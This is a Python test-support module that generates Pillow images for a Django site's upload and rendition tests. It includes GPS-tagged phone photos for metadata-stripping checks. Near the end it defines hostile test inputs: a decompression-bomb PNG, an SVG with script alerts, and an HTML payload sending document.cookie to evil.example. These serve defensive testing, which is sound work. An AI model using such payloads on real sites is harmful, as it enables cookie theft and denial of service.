"""Images made by Pillow for the image tests (no fixtures on disk), and small helpers. No tests here."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageCms, ImageDraw

GPS_IFD = 0x8825
ORIENTATION = 0x0112
XMP_PACKET = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="Secret Clinic Town"/>'
    b"</rdf:RDF></x:xmpmeta>"
)


def picture(size=(1600, 900), colour=(40, 120, 200), mode="RGB"):
    """A plain image with a white dot near the top-left corner, so orientation can be checked."""
    image = Image.new(mode, size, colour if mode == "RGB" else (*colour, 255)[: len(mode)])
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 10, size[1] // 10), fill="white")
    return image


def encode(image, fmt, **options):
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def gps_exif(orientation=None):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    if orientation:
        exif[ORIENTATION] = orientation
    exif[GPS_IFD] = {1: "N", 2: (40.0, 26.0, 46.0), 3: "W", 4: (79.0, 58.0, 56.0)}
    return exif


def phone_photo(size=(1200, 800), orientation=6):
    """A JPEG as a phone writes it: GPS position, orientation tag, XMP with a place name, an ICC profile."""
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(picture(size), "JPEG", exif=gps_exif(orientation), xmp=XMP_PACKET, icc_profile=srgb, quality=90)


def jpeg(size=(1600, 900), **options):
    options.setdefault("quality", 85)
    return encode(picture(size), "JPEG", **options)


def noisy_jpeg(size=(800, 600)):
    """A JPEG that does not compress well, for size limits."""
    noise = Image.effect_noise(size, 80).convert("RGB")
    return encode(noise, "JPEG", quality=95)


def png(size=(1000, 700), mode="RGBA"):
    return encode(picture(size, mode=mode), "PNG")


def webp(size=(1000, 700)):
    return encode(picture(size), "WEBP", quality=80)


def animated_gif(size=(640, 480)):
    first = picture(size, colour=(200, 30, 30)).convert("P")
    second = picture(size, colour=(30, 200, 30)).convert("P")
    buffer = io.BytesIO()
    first.save(buffer, "GIF", save_all=True, append_images=[second], duration=100, loop=0)
    return buffer.getvalue()


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def decompression_bomb_png(width=30_000, height=30_000):
    """A few hundred bytes claiming to be a 900-megapixel PNG: the header lies about the size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", data) + _png_chunk(b"IEND", b"")


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
)
HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"


def upload(data, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def open_bytes(data):
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def article_with_hero(data=None, title="Hero story", **fields):
    """A published article whose hero went through the upload pipeline, as the admin form does it."""
    from images.services import store_normalised
    from tests.support.factories import make_article

    article = make_article(title, hero_alt=fields.pop("hero_alt", "A blue test picture"), **fields)
    store_normalised(article.hero_image, upload(data or jpeg((1600, 900))))
    article.save()
    return article


def without_digest(url):
    """A rendition's address without its content digest: `…/16x9-w480-0123abcd45.jpg` -> `…/16x9-w480.jpg`."""
    import re

    return re.sub(r"-[0-9a-f]{10}(\.(?:jpg|webp))$", r"\1", url)


def srcset_urls(element):
    """The addresses in an element's srcset, in order."""
    return [part.strip().split(" ")[0] for part in element.get("srcset").split(",")]
